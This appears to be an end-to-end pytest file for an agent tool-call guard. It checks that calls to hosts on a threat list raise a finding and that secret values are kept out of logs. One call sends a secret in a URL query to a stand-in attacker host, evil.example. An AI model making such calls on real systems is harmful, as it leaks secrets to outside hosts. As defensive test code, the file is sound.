"""A threat list from the command line to a guard: what a call names is noticed before it runs, and no value leaves."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from harness.live_server import ServerFixture
from harness.patience import eventually
from ostiary.guard import Guard
from tests.e2e.spender import show

FETCH: dict[str, Any] = {
    "name": "fetch",
    "effect": "read",
    "arguments": {"type": "object", "properties": {"url": {"type": "string"}}, "required": ["url"]},
}
SEND: dict[str, Any] = FETCH | {"name": "send", "effect": "write"}


@pytest.mark.parametrize("tool", ["fetch", "send"])
def test_a_call_with_a_host_of_a_threat_list_raises_a_finding(
    live_server: ServerFixture, tmp_path: Path, tool: str
) -> None:
    uri = f"https://{live_server.name('web')}.example/mcp"
    name, guard_key = live_server.resource(uri, [FETCH, SEND])
    agent, agent_key = live_server.agent(f"{name}:read", f"{name}:write")
    id = live_server.api("GET", f"/agents/{agent}")["agent_id"]
    listed, list_name = tmp_path / "evil.txt", live_server.name("list")
    listed.write_text("evil.example\n")
    task = live_server.api("POST", "/tasks", {"agent": agent, "purpose": "to fetch"})["task_id"]
    with Guard(guard_key, spool_dir=tmp_path / "spool") as guard:
        who = show(guard, agent_key, uri, task)
        assert guard.feed.current().facts.threats == {}
        made = live_server.server.ostiary("threats", "add", list_name, "--file", str(listed), "--points", "75")
        assert (made["count"], made["skipped"]) == (1, 0)
        eventually(lambda: guard.feed.current().facts.threats)
        with guard.call(who, tool, {"url": "https://good.example/"}) as call:
            call.result()
        with guard.call(who, tool, {"url": "https://www.evil.example/?secret=hunter2"}) as call:
            call.result()
    found = eventually(lambda: live_server.api("GET", "/findings", agent=id)["findings"])
    (finding,) = [one for one in found if one["detector"] == "threat_list"]
    assert finding["points"] == 75
    assert finding["says"] == f"the argument 'url' names a host of the threat list `{list_name}`"
    assert "hunter2" not in json.dumps([finding, live_server.entries(agent=id, limit=100)])
    live_server.server.ostiary("threats", "remove", list_name)
    assert list_name not in {one["name"] for one in live_server.server.ostiary("threats", "list")}
